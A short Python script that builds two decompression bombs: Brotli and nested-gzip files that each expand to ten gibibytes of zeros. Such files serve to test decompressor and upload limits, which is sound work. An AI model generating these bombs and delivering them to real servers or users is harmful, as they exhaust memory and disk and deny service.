"""Makes bomb.br and bomb.gz (gzip in gzip): ten gibibytes of zeros each. Takes minutes."""

import gzip, zlib

import brotli

zeros, times = bytes(16 << 20), 640
packer = brotli.Compressor(quality=5, lgwin=24)
with open("bomb.br", "wb") as file:
    for _ in range(times):
        file.write(packer.process(zeros))
    file.write(packer.finish())

packer = zlib.compressobj(9, zlib.DEFLATED, 31)
inner = b"".join(packer.compress(zeros) for _ in range(times)) + packer.flush()
with open("bomb.gz", "wb") as file:
    file.write(gzip.compress(inner, 9, mtime=0))
